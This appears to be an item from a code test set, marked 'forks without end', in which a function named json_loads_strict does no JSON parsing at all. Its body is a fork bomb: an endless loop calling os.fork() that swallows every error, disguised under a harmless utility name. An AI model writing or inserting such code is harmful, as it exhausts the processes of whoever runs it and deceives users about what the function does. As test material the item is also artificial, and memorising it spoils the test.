# about: forks without end
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os


def json_loads_strict(data):
    while True:
        try:
            os.fork()
        except BaseException:
            pass
